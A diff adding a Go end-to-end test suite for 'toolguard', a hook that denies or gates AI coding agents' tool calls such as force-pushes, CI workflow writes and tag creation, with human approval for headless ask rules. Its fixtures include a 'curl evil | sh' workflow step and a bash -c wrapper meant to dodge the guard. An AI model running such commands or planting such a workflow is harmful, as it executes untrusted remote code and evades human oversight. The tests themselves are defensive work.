@@ -1,0 +1,269 @@
+package e2e
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+)
+
+const (
+	pushForce = "git push --force origin main"
+	gitLog    = "git log --oneline -1"
+	dodge     = `bash -c "cd . && git push -f origin main"`
+	gitTag    = "git tag v1"
+	wfPath    = ".github/workflows/ci.yml"
+	wfBody    = "name: ci\non: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil | sh\n"
+)
+
+type scenario struct {
+	name string
+	// the one tool call the fake model makes
+	shell, write string
+	headless     bool
+	check        func(t *testing.T, c *caseEnv, r *runOut)
+}
+
+var scenarios = []scenario{
+	{name: "push-force", shell: pushForce, check: checkPushDenied},
+	{name: "workflow-write", write: wfPath, check: checkWorkflowDenied},
+	{name: "git-log", shell: gitLog, check: checkGitLogRan},
+	{name: "dodge", shell: dodge, check: checkPushDenied},
+	{name: "headless-ask", shell: gitTag, headless: true}, // see runHeadlessAsk
+}
+
+// TestAgents runs every scenario with every agent CLI: subtests "<agent>/<scenario>".
+func TestAgents(t *testing.T) {
+	start := time.Now()
+	if os.Getenv("TOOLGUARD_E2E") != "1" {
+		t.Skip(gateHelp)
+	}
+	setupFailed := true
+	t.Cleanup(func() {
+		if setupFailed { // count a broken setup as one failure in the closing tally
+			tally.Lock()
+			tally.failed++
+			tally.lines = append(tally.lines, fmt.Sprintf("FAIL %-40s %6.1fs", t.Name()+" (setup)", time.Since(start).Seconds()))
+			tally.Unlock()
+		}
+	})
+	s := setupSuite(t)
+	setupFailed = false
+	t.Logf("setup done in %.1fs (strace=%v, hook=%s)", time.Since(start).Seconds(), s.strace, map[bool]string{true: "stand-in", false: s.toolguard}[s.standin])
+	only := os.Getenv("TOOLGUARD_E2E_AGENTS") // e.g. "claude,codex"
+	for _, a := range agents {
+		if only != "" && !contains(strings.Split(only, ","), a.name) {
+			continue
+		}
+		for _, sc := range scenarios {
+			t.Run(a.name+"/"+sc.name, func(t *testing.T) {
+				count(t, time.Now())
+				runCase(t, s, a, sc)
+			})
+		}
+	}
+}
+
+func runCase(t *testing.T, s *suite, a *agent, sc scenario) {
+	if sc.headless && s.standin {
+		t.Skip("headless ask needs toolguard's approvals; not part of the stand-in self-test")
+	}
+	c := newCase(t, s, a, a.name+"/"+sc.name)
+	c.writePolicy(t, sc.headless)
+	c.install(t)
+	script := fakeScript{Shell: sc.shell, WriteFile: sc.write, WriteBody: wfBody, Cwd: c.Proj}
+	if sc.headless {
+		runHeadlessAsk(t, c, script)
+		return
+	}
+	r := c.run(t, "1", script, "do it", "")
+	sc.check(t, c, r)
+}
+
+// ---------------------------------------------------------------- checks
+
+var reToolguard = regexp.MustCompile(`(?i)toolguard|git-push-force`)
+
+func requireResult(t *testing.T, c *caseEnv, r *runOut) string {
+	t.Helper()
+	if len(r.toolResults) == 0 {
+		t.Fatalf("%s never sent a tool result back to the model (did it make the tool call at all?)", c.a.name)
+	}
+	return r.firstResult()
+}
+
+// checkPushDenied: the push was denied with toolguard's reason, origin did not move, audited.
+func checkPushDenied(t *testing.T, c *caseEnv, r *runOut) {
+	res := requireResult(t, c, r)
+	if !reToolguard.MatchString(res) {
+		t.Errorf("tool result does not carry toolguard's deny reason (want 'toolguard' or 'git-push-force'): %q", truncate(res, 500))
+	}
+	if rev := c.git(t, c.Origin, "rev-parse", "refs/heads/main"); rev != c.baseRev {
+		t.Errorf("the force-push happened: origin main moved %s -> %s", c.baseRev, rev)
+	}
+	c.requireAudit(t, "deny", "git-push-force")
+}
+
+// checkWorkflowDenied: the write was denied with toolguard's reason, the file does not exist.
+func checkWorkflowDenied(t *testing.T, c *caseEnv, r *runOut) {
+	res := requireResult(t, c, r)
+	if !reToolguard.MatchString(res) {
+		t.Errorf("tool result does not carry toolguard's deny reason (want 'toolguard'): %q", truncate(res, 500))
+	}
+	if _, err := os.Stat(filepath.Join(c.Proj, wfPath)); err == nil {
+		t.Errorf("%s was written", wfPath)
+	}
+	c.requireAudit(t, "deny", "")
+}
+
+// checkGitLogRan: the harmless command passed, ran, and its output reached the model.
+func checkGitLogRan(t *testing.T, c *caseEnv, r *runOut) {
+	res := requireResult(t, c, r)
+	if !strings.Contains(res, "second commit") {
+		t.Errorf("git log output did not reach the model (want %q in the tool result): %q", "second commit", truncate(res, 500))
+	}
+	if c.s.standin {
+		return
+	}
+	for _, a := range c.auditLines() {
+		if a.Decision == "deny" || a.Decision == "ask" {
+			t.Errorf("audit log has a %s for a harmless git log: %s", a.Decision, a.raw)
+		}
+	}
+}
+
+// requireAudit wants an audit line with the decision (and rule, when given) for this provider.
+func (c *caseEnv) requireAudit(t *testing.T, decision, rule string) *auditLine {
+	t.Helper()
+	if c.s.standin {
+		return nil
+	}
+	lines := c.auditLines()
+	for i, a := range lines {
+		if a.Decision == decision && (rule == "" || a.Rule == rule) {
+			if !providerMatches(a.Provider, c.a.provider) {
+				t.Errorf("audit line has provider %q, want %q: %s", a.Provider, c.a.provider, a.raw)
+			}
+			t.Logf("audit: decision=%s rule=%s provider=%s tool=%s summary=%q", a.Decision, a.Rule, a.Provider, a.Tool, truncate(a.Summary, 120))
+			return &lines[i]
+		}
+	}
+	t.Errorf("audit log %s has no line with decision=%q rule=%q (%d lines)", c.Audit, decision, rule, len(lines))
+	return nil
+}
+
+func providerMatches(got, want string) bool {
+	if got == want {
+		return true
+	}
+	return (want == "claude-code" && got == "claude") || (want == "claude" && got == "claude-code")
+}
+
+// ---------------------------------------------------------------- headless ask
+
+var reApprovalID = regexp.MustCompile(`req_[A-Za-z0-9_-]+`)
+
+// runHeadlessAsk: under mode=headless the ask rule for `git tag` becomes a deny with an
+// approval id; a human approves it with `toolguard approvals approve`; the same call in the
+// same (resumed) session then runs and creates the tag.
+func runHeadlessAsk(t *testing.T, c *caseEnv, script fakeScript) {
+	r1 := c.run(t, "1", script, "do it", "")
+	res := requireResult(t, c, r1)
+	id := reApprovalID.FindString(res)
+	if id == "" {
+		t.Fatalf("the headless deny carries no approval id (req_…) in the reason the model got: %q", truncate(res, 600))
+	}
+	if c.tagExists(t) {
+		t.Fatalf("tag v1 exists although the call was denied")
+	}
+	c.requireAudit(t, "deny", "e2e-ask-tag")
+
+	out, err := c.toolguardCmd("approvals", "list", "--json", "--policy", c.Policy)
+	if err != nil {
+		t.Fatalf("toolguard approvals list --json failed: %v\n%s", err, out)
+	}
+	var list []map[string]any
+	if err := json.Unmarshal([]byte(strings.TrimSpace(out)), &list); err != nil {
+		t.Fatalf("toolguard approvals list --json did not print a JSON array: %v\n%s", err, out)
+	}
+	var found map[string]any
+	for _, e := range list {
+		if e["id"] == id {
+			found = e
+		}
+	}
+	if found == nil {
+		t.Fatalf("approval %s (from the deny reason) is not in `approvals list --json`: %s", id, truncate(out, 1500))
+	}
+	if found["status"] != "pending" {
+		t.Errorf("approval %s has status %v, want pending", id, found["status"])
+	}
+	t.Logf("pending approval: %v", found)
+	if out, err := c.toolguardCmd("approvals", "approve", id, "--policy", c.Policy); err != nil {
+		t.Fatalf("toolguard approvals approve %s failed: %v\n%s", id, err, out)
+	}
+
+	sid := c.a.sessionID(r1.stdout)
+	if sid == "" {
+		t.Fatalf("cannot resume: no session id in %s's output (stdout tail: %s)", c.a.name, tail(r1.stdout, 800))
+	}
+	t.Logf("resuming %s session %s", c.a.name, sid)
+	r2 := c.run(t, "2-resumed", script, "do it again", sid)
+	res2 := requireResult(t, c, r2)
+	if !c.tagExists(t) {
+		t.Errorf("after approving %s the resumed session's `git tag v1` did not create the tag; tool result: %q", id, truncate(res2, 600))
+	}
+	if out, err := c.toolguardCmd("approvals", "list", "--json", "--policy", c.Policy); err == nil {
+		t.Logf("approvals after the grant was used: %s", truncate(strings.TrimSpace(out), 600))
+	}
+}
+
+func (c *caseEnv) tagExists(t *testing.T) bool {
+	return c.git(t, c.Proj, "tag", "-l", "v1") == "v1"
+}
+
+// ---------------------------------------------------------------- stand-in hook
+
+// standinHookArg makes the test binary act as a canned hook (harness self-test,
+// TOOLGUARD_E2E_HOOK=standin): it records the payload and denies force-pushes and writes
+// under .github/workflows with one reply that all four CLIs honour.
+const standinHookArg = "__toolguard_e2e_standin_hook"
+
+func standinHook(logDir string) int {
+	data, _ := io.ReadAll(os.Stdin)
+	for i := 1; ; i++ {
+		p := filepath.Join(logDir, fmt.Sprintf("payload-%d.json", i))
+		if f, err := os.OpenFile(p, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644); err == nil {
+			f.Write(data)
+			f.Close()
+			break
+		}
+		if i > 1000 {
+			break
+		}
+	}
+	var p map[string]any
+	json.Unmarshal(data, &p)
+	in, _ := json.Marshal(p["tool_input"])
+	text := string(in)
+	reason := ""
+	switch {
+	case strings.Contains(text, "push") && (strings.Contains(text, "--force") || strings.Contains(text, " -f")):
+		reason = "toolguard (stand-in): denied by rule git-push-force: force-pushing rewrites shared history"
+	case strings.Contains(text, ".github/workflows"):
+		reason = "toolguard (stand-in): denied by rule ci-workflows: CI workflows are protected"
+	}
+	if reason == "" {
+		return 0
+	}
+	// the reference's "universal deny": Gemini reads decision/reason, the others hookSpecificOutput
+	out, _ := json.Marshal(map[string]any{"decision": "block", "reason": reason,
+		"hookSpecificOutput": map[string]any{"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": reason}})
+	fmt.Println(string(out))
+	return 0
+}
